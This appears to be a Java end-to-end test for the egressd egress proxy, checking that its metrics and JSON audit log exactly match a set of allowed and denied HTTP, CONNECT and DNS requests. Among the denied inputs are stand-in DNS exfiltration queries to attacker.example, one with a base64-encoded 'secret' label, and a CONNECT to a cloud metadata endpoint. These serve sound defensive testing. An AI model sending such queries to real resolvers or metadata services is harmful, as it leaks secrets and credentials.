package io.egressd.e2e;

import static io.egressd.e2e.AuditLines.event;
import static io.egressd.e2e.AuditLines.text;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.egressd.metrics.Exposition;
import java.net.InetSocketAddress;
import java.net.ProxySelector;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.xbill.DNS.ARecord;
import org.xbill.DNS.DClass;
import org.xbill.DNS.Message;
import org.xbill.DNS.Name;
import org.xbill.DNS.Rcode;
import org.xbill.DNS.Record;
import org.xbill.DNS.Section;
import org.xbill.DNS.SimpleResolver;
import org.xbill.DNS.Type;
import tools.jackson.databind.JsonNode;

/**
 * Issue 5, first "must show": the real daemon, a known number of allowed and denied requests
 * through all three fronts (plain HTTP, CONNECT, DNS over UDP and TCP) from real clients (curl,
 * the JDK's HttpClient with a ProxySelector, dig, dnsjava), then /metrics and the audit trail
 * on standard output agree with what was sent, count for count; every line validates against
 * docs/audit-event.schema.json, and every denial is spelled out field by field.
 */
@ExtendWith(E2eExtension.class)
class AuditTrailIT {

    /** How long one CONNECT tunnel is held open: its egress.closed must say at least this. */
    static final long HELD_MILLIS = 500;
    /** The size of the one plain HTTP request body sent. */
    static final int POSTED = 1234;

    @TempDir
    Path dir;
    HttpUpstream http;
    EchoUpstream echo;
    DnsUpstream dns;
    Egressd egressd;

    @BeforeEach
    void start() throws Exception {
        http = new HttpUpstream();
        echo = new EchoUpstream();
        dns = DnsUpstream.start().a("allowed.example.com", "93.184.216.34");
        Path allowlists = Files.createDirectories(dir.resolve("allowlists"));
        Files.writeString(allowlists.resolve("app.yaml"), """
                server: app
                clients:
                  sources: [127.0.0.1/32]
                allow:
                  - host: allowed.example.com
                  - cidr: 127.0.0.1/32
                    ports: [%d, %d]
                """.formatted(http.port(), echo.port()));
        egressd = Egressd.start(dir, Fixture.config(dns.address(), """
                  timeout: 2s
                audit:
                  dns_allowed: true
                deny:
                  hosts: ["*.blocked.example"]
                """));
    }

    @AfterEach
    void stop() throws Exception {
        Fixture.close(egressd, http, echo, dns);
    }

    @Test
    void metricsAndAuditTrailCountExactlyWhatWasSentAndEveryLineValidates() throws Exception {
        Instant begin = Instant.now().minusSeconds(1);
        String proxy = egressd.proxyUrl();
        String v = egressd.version;
        String upstream = http.url("/");
        List<String> expectedDenials = new ArrayList<>();

        // ---- plain HTTP, allowed: 2 by curl, 3 by HttpClient on one kept-alive connection
        for (int i = 1; i <= 2; i++) {
            Tools.Result r = Tools.curl(proxy, http.url("/curl-" + i));
            assertThat(r.out()).startsWith("HTTP/1.1 200").endsWith(HttpUpstream.BODY);
        }
        HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
                .proxy(ProxySelector.of(egressd.proxy())).connectTimeout(Duration.ofSeconds(5)).build();
        for (int i = 1; i <= 3; i++) {
            // The last one a POST with a body of known size: egress.closed counts bodies, not heads.
            HttpRequest.BodyPublisher body = i == 3 ? HttpRequest.BodyPublishers.ofString("p".repeat(POSTED))
                    : HttpRequest.BodyPublishers.noBody();
            HttpResponse<String> r = client.send(HttpRequest.newBuilder(URI.create(http.url("/java-" + i)))
                    .method(i == 3 ? "POST" : "GET", body).timeout(Duration.ofSeconds(20)).build(),
                    HttpResponse.BodyHandlers.ofString());
            assertThat(r.statusCode()).isEqualTo(200);
            assertThat(r.body()).isEqualTo(HttpUpstream.BODY);
        }

        // ---- plain HTTP, denied: 6 (one of them from a client no allowlist claims)
        for (String url : List.of("http://nope.example/a", "http://nope.example/b", "http://x.blocked.example/",
                "http://allowed.example.com/")) {
            HttpResponse<String> r = client.send(HttpRequest.newBuilder(URI.create(url))
                    .timeout(Duration.ofSeconds(20)).build(), HttpResponse.BodyHandlers.ofString());
            assertThat(r.statusCode()).as(url).isEqualTo(403);
        }
        expectedDenials.add(denied("http", "nope.example", 80, null, "host_not_allowed", v));
        expectedDenials.add(denied("http", "nope.example", 80, null, "host_not_allowed", v));
        expectedDenials.add(denied("http", "x.blocked.example", 80, "egressd.yaml#deny.hosts[0]",
                "denied_by_global_rule", v));
        expectedDenials.add(denied("http", "allowed.example.com", 80, "allowlists/app.yaml#allow[0]",
                "port_not_allowed", v));
        Tools.Result literal = Tools.curl(proxy, "http://127.0.0.2:" + http.port() + "/");
        assertThat(literal.out()).startsWith("HTTP/1.1 403").contains("X-Egressd-Denied: ip_literal_not_allowed");
        expectedDenials.add(denied("http", "127.0.0.2", http.port(), null, "ip_literal_not_allowed", v));
        Tools.Result stranger = Tools.curl(proxy, "--interface", "127.0.0.9", upstream);
        assertThat(stranger.out()).startsWith("HTTP/1.1 403").contains("X-Egressd-Denied: unknown_client");
        expectedDenials.add("{\"event\":\"egress.denied\",\"protocol\":\"http\",\"client\":\"127.0.0.9:*\","
                + "\"host\":\"127.0.0.1\",\"port\":" + http.port() + ",\"reason\":\"unknown_client\","
                + "\"policy_version\":\"" + v + "\"}");

        // ---- CONNECT, allowed: 2 raw tunnels to the echo server with known byte counts, 1 by curl -p
        byte[] big = new byte[1500];
        Arrays.fill(big, (byte) 'x');
        try (ProxyClient tunnel = ProxyClient.open("127.0.0.1", egressd.proxyPort)) {
            assertThat(tunnel.connect("127.0.0.1:" + echo.port()).status()).isEqualTo(200);
            assertThat(tunnel.echo(Arrays.copyOf(big, 1000))).hasSize(1000);
            assertThat(tunnel.echo(Arrays.copyOf(big, 500))).hasSize(500);
        }
        try (ProxyClient tunnel = ProxyClient.open("127.0.0.1", egressd.proxyPort)) {
            assertThat(tunnel.connect("127.0.0.1:" + echo.port()).status()).isEqualTo(200);
            assertThat(new String(tunnel.echo("hello\r\n".getBytes(StandardCharsets.US_ASCII)),
                    StandardCharsets.US_ASCII)).isEqualTo("hello\r\n");
            // Held open, so its duration_ms can be checked against real time.
            Thread.sleep(HELD_MILLIS);
        }
        Tools.Result tunneled = Tools.curl(proxy, "-p", http.url("/tunneled"));
        assertThat(tunneled.out()).contains("HTTP/1.1 200").endsWith(HttpUpstream.BODY);

        // ---- CONNECT, denied: 3, each answered 403 and closed
        Tools.Result curlDenied = Tools.curl(proxy, "-p", "https://nope.example/");
        assertThat(curlDenied.out()).startsWith("HTTP/1.1 403").contains("X-Egressd-Denied: host_not_allowed");
        expectedDenials.add(denied("connect", "nope.example", 443, null, "host_not_allowed", v));
        for (String authority : List.of("metadata.google.internal:443", "127.0.0.1:22")) {
            try (ProxyClient c = ProxyClient.open("127.0.0.1", egressd.proxyPort)) {
                ProxyClient.Response r = c.connect(authority);
                assertThat(r.status()).as(authority).isEqualTo(403);
                assertThat(c.closedByPeer(5000)).as("a refused CONNECT closes").isTrue();
            }
        }
        expectedDenials.add(denied("connect", "metadata.google.internal", 443, "builtin:metadata.google.internal",
                "denied_by_global_rule", v));
        expectedDenials.add(denied("connect", "127.0.0.1", 22, null, "port_not_allowed", v));

        // ---- DNS, allowed: dig over UDP, dnsjava over TCP
        Tools.Result dig = Tools.dig("127.0.0.1", egressd.dnsPort, "allowed.example.com", "A");
        assertThat(dig.out()).contains("status: NOERROR").containsPattern("allowed\\.example\\.com\\.\\s+\\d+\\s+IN"
                + "\\s+A\\s+93\\.184\\.216\\.34");
        Message overTcp = resolver(true).send(query("allowed.example.com.", Type.A));
        assertThat(overTcp.getRcode()).isEqualTo(Rcode.NOERROR);
        assertThat(overTcp.getSection(Section.ANSWER)).singleElement()
                .satisfies(rec -> assertThat(((ARecord) rec).getAddress().getHostAddress()).isEqualTo("93.184.216.34"));

        // ---- DNS, denied: 5
        assertThat(Tools.dig("127.0.0.1", egressd.dnsPort, "secret.attacker.example", "TXT").out())
                .contains("status: NXDOMAIN");
        expectedDenials.add(dnsDenied("127.0.0.1", true, null, "host_not_allowed", "secret.attacker.example", "TXT",
                "NXDOMAIN", v));
        assertThat(resolver(false).send(query("c2VjcmV0.attacker.example.", Type.A)).getRcode())
                .isEqualTo(Rcode.NXDOMAIN);
        expectedDenials.add(dnsDenied("127.0.0.1", true, null, "host_not_allowed", "c2VjcmV0.attacker.example", "A",
                "NXDOMAIN", v));
        assertThat(Tools.dig("127.0.0.1", egressd.dnsPort, "allowed.example.com", "ANY").out())
                .contains("status: REFUSED");
        expectedDenials.add(dnsDenied("127.0.0.1", true, null, "qtype_not_allowed", "allowed.example.com", "ANY",
                "REFUSED", v));
        assertThat(Tools.dig("127.0.0.1", egressd.dnsPort, "localhost", "A").out()).contains("status: NXDOMAIN");
        expectedDenials.add(dnsDenied("127.0.0.1", true, "builtin:localhost", "denied_by_global_rule", "localhost",
                "A", "NXDOMAIN", v));
        assertThat(Tools.dig("127.0.0.9", egressd.dnsPort, "allowed.example.com", "A").out())
                .contains("status: REFUSED");
        expectedDenials.add(dnsDenied("127.0.0.9", false, null, "unknown_client", "allowed.example.com", "A",
                "REFUSED", v));

        // What was sent, as egressd_decisions_total{server,protocol,decision,reason} should count it.
        Map<String, Long> sent = new TreeMap<>(Map.ofEntries(
                Map.entry("app/http/allowed/none", 5L),
                Map.entry("app/http/denied/host_not_allowed", 2L),
                Map.entry("app/http/denied/denied_by_global_rule", 1L),
                Map.entry("app/http/denied/port_not_allowed", 1L),
                Map.entry("app/http/denied/ip_literal_not_allowed", 1L),
                Map.entry("unknown/http/denied/unknown_client", 1L),
                Map.entry("app/connect/allowed/none", 3L),
                Map.entry("app/connect/denied/host_not_allowed", 1L),
                Map.entry("app/connect/denied/denied_by_global_rule", 1L),
                Map.entry("app/connect/denied/port_not_allowed", 1L),
                Map.entry("app/dns/allowed/none", 2L),
                Map.entry("app/dns/denied/host_not_allowed", 2L),
                Map.entry("app/dns/denied/qtype_not_allowed", 1L),
                Map.entry("app/dns/denied/denied_by_global_rule", 1L),
                Map.entry("unknown/dns/denied/unknown_client", 1L)));
        Map<String, Long> perEvent = new TreeMap<>(Map.of("policy.loaded", 1L, "egress.denied", 9L,
                "egress.closed", 8L, "dns.allowed", 2L, "dns.denied", 5L));
        long total = perEvent.values().stream().mapToLong(Long::longValue).sum();

        // Allowed connections are audited when they close, so wait for the last tunnel's line.
        await().atMost(Duration.ofSeconds(10)).pollInterval(Duration.ofMillis(50))
                .until(() -> egressd.stdout().size() >= total);
        List<JsonNode> events = AuditLines.validated(egressd.stdout());
        assertThat(AuditLines.countBy(events, e -> text(e, "event"))).isEqualTo(perEvent);

        // The audit trail, read as decisions, is what was sent ...
        assertThat(AuditLines.countBy(events.stream().filter(e -> !text(e, "event").startsWith("policy.")).toList(),
                e -> (e.has("server") ? text(e, "server") : "unknown") + "/" + text(e, "protocol") + "/"
                        + (text(e, "event").endsWith(".denied") ? "denied" : "allowed") + "/"
                        + (e.has("reason") ? text(e, "reason") : "none")))
                .isEqualTo(sent);
        // ... and so are the metrics.
        String metrics = egressd.scrape();
        Map<String, Long> counted = new TreeMap<>();
        for (Exposition.Sample s : Exposition.samples(metrics, "egressd_decisions_total")) {
            if (s.value() > 0) {
                counted.put(s.labels().get("server") + "/" + s.labels().get("protocol") + "/"
                        + s.labels().get("decision") + "/" + s.labels().get("reason"), (long) s.value());
            }
        }
        assertThat(counted).isEqualTo(sent);
        // Every allowed CONNECT opened its own upstream connection, and each was timed.
        long tunnels = sent.entrySet().stream().filter(e -> e.getKey().contains("/connect/allowed/"))
                .mapToLong(Map.Entry::getValue).sum();
        assertThat(tunnels).isPositive();
        assertThat((long) Exposition.samples(metrics, "egressd_upstream_connect_seconds_count").get(0).value())
                .isGreaterThanOrEqualTo(tunnels);

        Map<String, Long> queries = new TreeMap<>();
        for (Exposition.Sample s : Exposition.samples(metrics, "egressd_dns_queries_total")) {
            if (s.value() > 0) {
                queries.put(s.labels().get("server") + "/" + s.labels().get("decision") + "/"
                        + s.labels().get("qtype"), (long) s.value());
            }
        }
        assertThat(queries).isEqualTo(AuditLines.countBy(events.stream().filter(e -> text(e, "event")
                .startsWith("dns.")).toList(), e -> (e.has("server") ? text(e, "server") : "unknown") + "/"
                + (text(e, "event").equals("dns.denied") ? "denied" : "allowed") + "/" + text(e, "qtype")))
                .containsEntry("app/allowed/A", 2L).containsEntry("app/denied/TXT", 1L)
                .containsEntry("unknown/denied/A", 1L);

        Map<String, Long> audited = new TreeMap<>();
        for (Exposition.Sample s : Exposition.samples(metrics, "egressd_audit_events_total")) {
            audited.put(s.labels().get("event"), (long) s.value());
        }
        Map<String, Long> expectedAudited = new TreeMap<>(perEvent);
        expectedAudited.put("egress.allowed", 0L);
        expectedAudited.put("policy.rejected", 0L);
        assertThat(audited).isEqualTo(expectedAudited);

        // Bytes: the metric adds what each egress.closed line says; the echo tunnels' counts are exact.
        List<JsonNode> closed = events.stream().filter(event("egress.closed")).toList();
        assertThat(Exposition.sum(metrics, "egressd_bytes_total", Egressd.labels("server", "app", "direction", "sent")))
                .isEqualTo(closed.stream().mapToLong(e -> e.get("bytes_sent").asLong()).sum());
        assertThat(Exposition.sum(metrics, "egressd_bytes_total",
                Egressd.labels("server", "app", "direction", "received")))
                .isEqualTo(closed.stream().mapToLong(e -> e.get("bytes_received").asLong()).sum());
        assertThat(closed.stream().filter(e -> e.get("port").asInt() == echo.port())
                .map(e -> e.get("bytes_sent").asLong() + "/" + e.get("bytes_received").asLong()))
                .containsExactlyInAnyOrder("1500/1500", "7/7");
        // Plain HTTP: one egress.closed per request, the three on one kept-alive connection included, and
        // its bytes are the bodies only (no request line, status line or headers): the POST's 1234, the answer's 20.
        assertThat(closed.stream().filter(e -> text(e, "protocol").equals("http"))
                .map(e -> e.get("bytes_sent").asLong() + "/" + e.get("bytes_received").asLong()))
                .containsExactlyInAnyOrder("0/20", "0/20", "0/20", "0/20", POSTED + "/20");
        assertThat(HttpUpstream.BODY).hasSize(20);
        // The held tunnel's duration is real time: at least the hold, and not wildly more.
        assertThat(closed.stream().filter(e -> e.get("port").asInt() == echo.port()
                && e.get("bytes_sent").asLong() == 7).map(e -> e.get("duration_ms").asLong()))
                .singleElement().satisfies(ms -> assertThat(ms).isBetween(HELD_MILLIS, HELD_MILLIS + 5000));
        assertThat(Exposition.samples(metrics, "egressd_connections_active")).allSatisfy(s ->
                assertThat(s.value()).as("open connections " + s.labels()).isZero());

        // Every allowed connection's line: enforce mode, the cidr rule, the pinned address, the policy.
        for (JsonNode e : closed) {
            assertThat(AuditLines.fields(e)).containsExactly("time", "event", "server", "mode", "would_deny",
                    "protocol", "client", "host", "port", "address", "rule", "bytes_sent", "bytes_received",
                    "duration_ms", "policy_version");
            assertThat(text(e, "server") + " " + text(e, "mode") + " " + e.get("would_deny").asBoolean() + " "
                    + text(e, "client").replaceAll(":\\d+$", "") + " " + text(e, "host") + " "
                    + text(e, "address") + " " + text(e, "rule") + " " + text(e, "policy_version"))
                    .isEqualTo("app enforce false 127.0.0.1 127.0.0.1 127.0.0.1 allowlists/app.yaml#allow[1] " + v);
        }
        assertThat(closed).extracting(e -> text(e, "protocol") + ":" + e.get("port").asInt())
                .containsExactlyInAnyOrder("http:" + http.port(), "http:" + http.port(), "http:" + http.port(),
                        "http:" + http.port(), "http:" + http.port(), "connect:" + echo.port(),
                        "connect:" + echo.port(), "connect:" + http.port());
        for (JsonNode e : events.stream().filter(event("dns.allowed")).toList()) {
            assertThat(AuditLines.withoutTimeAndClientPort(e)).isEqualTo("{\"event\":\"dns.allowed\","
                    + "\"server\":\"app\",\"mode\":\"enforce\",\"would_deny\":false,\"protocol\":\"dns\","
                    + "\"client\":\"127.0.0.1:*\",\"rule\":\"allowlists/app.yaml#allow[0]\","
                    + "\"qname\":\"allowed.example.com\",\"qtype\":\"A\",\"rcode\":\"NOERROR\","
                    + "\"policy_version\":\"" + v + "\"}");
        }

        // Each denial, every field of its event (docs/audit-events.md), nothing more.
        assertThat(events.stream().filter(e -> text(e, "event").endsWith(".denied"))
                .map(AuditLines::withoutTimeAndClientPort).toList())
                .containsExactlyInAnyOrderElementsOf(expectedDenials);
        assertThat(events).allSatisfy(e -> assertThat(Instant.parse(text(e, "time"))).isBetween(begin,
                Instant.now()));
        assertThat(AuditLines.withoutTimeAndClientPort(events.get(0)))
                .isEqualTo("{\"event\":\"policy.loaded\",\"policy_version\":\"" + v + "\"}");

        // Refusals never reached an upstream: 5 HTTP requests + 1 through curl's tunnel, 2 echo tunnels,
        // and only the allowed name was ever asked upstream.
        assertThat(http.requests).hasValue(6);
        assertThat(echo.connections).hasValue(2);
        assertThat(dns.asked("secret.attacker.example") + dns.asked("c2VjcmV0.attacker.example")
                + dns.asked("localhost")).isZero();
        assertThat(dns.asked("allowed.example.com")).as("the second may come from egressd's cache")
                .isEqualTo(dns.queries.get()).isBetween(1, 2);

        // Stopping drains the queue: the trail is complete, no line lost or repeated at shutdown.
        egressd.stop();
        assertThat(egressd.stdout()).hasSize((int) total);
    }

    /**
     * docs/metrics.md against a real scrape: every egressd family the daemon exposes has its row
     * in the table, with its type; every egressd_ name the page mentions is exposed; every JVM,
     * process and system family is listed, by name or under a listed prefix such as jvm_gc_*.
     */
    @Test
    void metricsDocListsEveryExposedFamilyAndEveryListedMetricIsExposed() throws Exception {
        // The families born with their first label set: a decision and a closed connection (HTTP), a DNS query.
        assertThat(Tools.curl(egressd.proxyUrl(), http.url("/doc")).out()).startsWith("HTTP/1.1 200");
        assertThat(Tools.dig("127.0.0.1", egressd.dnsPort, "allowed.example.com", "A").out())
                .contains("status: NOERROR");
        await().atMost(Duration.ofSeconds(10)).pollInterval(Duration.ofMillis(50))
                .until(() -> egressd.scrape().contains("\negressd_bytes_total{"));
        String metrics = egressd.scrape();
        Map<String, String> families = new TreeMap<>();
        for (String line : metrics.split("\n")) {
            if (line.startsWith("# TYPE ")) {
                String[] parts = line.split(" ");
                families.put(parts[2], parts[3]);
            }
        }
        String doc = Files.readString(Egressd.ROOT.resolve("docs/metrics.md"));
        // The table's rows: | `name` | type | labels | meaning |
        Map<String, String> rows = new TreeMap<>();
        Map<String, String> rowText = new TreeMap<>();
        Matcher row = Pattern.compile("(?m)^\\| `(egressd_[a-z0-9_]+)` \\| ([a-z]+) \\|(.*)$").matcher(doc);
        while (row.find()) {
            rows.put(row.group(1), row.group(2));
            rowText.put(row.group(1), row.group(3));
        }
        assertThat(rows).as("rows of the egressd metrics table").hasSizeGreaterThan(10);

        List<String> undocumented = new ArrayList<>();
        families.forEach((name, type) -> {
            if (!name.startsWith("egressd_")) {
                return;
            }
            String base = name.endsWith("_max") ? name.substring(0, name.length() - 4) : null;
            if (rows.containsKey(name)) {
                assertThat(rows.get(name)).as("type of " + name + " in docs/metrics.md").isEqualTo(type);
            } else if (base != null && "histogram".equals(rows.get(base)) && rowText.get(base).contains("`_max`")) {
                assertThat(type).isEqualTo("gauge"); // a histogram's _max, documented in its row
            } else {
                undocumented.add(name);
            }
        });

        List<String> exposedNames = new ArrayList<>(families.keySet());
        Exposition.parse(metrics).forEach(sample -> exposedNames.add(sample.name()));
        // Not the recording rules' server:egressd_...:increase5m.
        Matcher mentioned = Pattern.compile("(?<![:\\w])egressd_[a-z0-9_]+").matcher(doc);
        List<String> notExposed = new ArrayList<>();
        while (mentioned.find()) {
            if (!exposedNames.contains(mentioned.group())) {
                notExposed.add(mentioned.group());
            }
        }

        List<String> listed = new ArrayList<>();
        Matcher name = Pattern.compile("`((?:jvm|process|system)_[a-z0-9_]*\\*?)`").matcher(doc);
        while (name.find()) {
            listed.add(name.group(1));
        }
        List<String> unlisted = families.keySet().stream().filter(f -> !f.startsWith("egressd_"))
                .filter(f -> listed.stream().noneMatch(l -> l.equals(f)
                        || l.endsWith("*") && f.startsWith(l.substring(0, l.length() - 1)))).toList();
        SoftAssertions.assertSoftly(soft -> {
            soft.assertThat(undocumented).as("egressd families exposed but not in docs/metrics.md").isEmpty();
            soft.assertThat(notExposed).as("egressd_ names in docs/metrics.md that the daemon does not expose")
                    .isEmpty();
            soft.assertThat(unlisted).as("JVM, process and system families exposed but not listed in"
                    + " docs/metrics.md").isEmpty();
        });
        assertThat(families).as("the JVM binders are there at all").containsKeys("jvm_memory_used_bytes",
                "process_cpu_seconds_total");
    }

    private static String denied(String protocol, String host, int port, String rule, String reason,
                                 String version) {
        return "{\"event\":\"egress.denied\",\"server\":\"app\",\"mode\":\"enforce\",\"protocol\":\"" + protocol
                + "\",\"client\":\"127.0.0.1:*\",\"host\":\"" + host + "\",\"port\":" + port
                + (rule == null ? "" : ",\"rule\":\"" + rule + "\"") + ",\"reason\":\"" + reason
                + "\",\"policy_version\":\"" + version + "\"}";
    }

    private static String dnsDenied(String client, boolean identified, String rule, String reason, String qname,
                                    String qtype, String rcode, String version) {
        return "{\"event\":\"dns.denied\"" + (identified ? ",\"server\":\"app\",\"mode\":\"enforce\"" : "")
                + ",\"protocol\":\"dns\",\"client\":\"" + client + ":*\""
                + (rule == null ? "" : ",\"rule\":\"" + rule + "\"") + ",\"reason\":\"" + reason
                + "\",\"qname\":\"" + qname + "\",\"qtype\":\"" + qtype + "\",\"rcode\":\"" + rcode
                + "\",\"policy_version\":\"" + version + "\"}";
    }

    private SimpleResolver resolver(boolean tcp) throws Exception {
        SimpleResolver resolver = new SimpleResolver(new InetSocketAddress("127.0.0.1", egressd.dnsPort));
        resolver.setLocalAddress(new InetSocketAddress("127.0.0.1", 0));
        resolver.setTCP(tcp);
        resolver.setTimeout(Duration.ofSeconds(3));
        return resolver;
    }

    private static Message query(String name, int type) throws Exception {
        return Message.newQuery(Record.newRecord(Name.fromString(name), type, DClass.IN));
    }
}
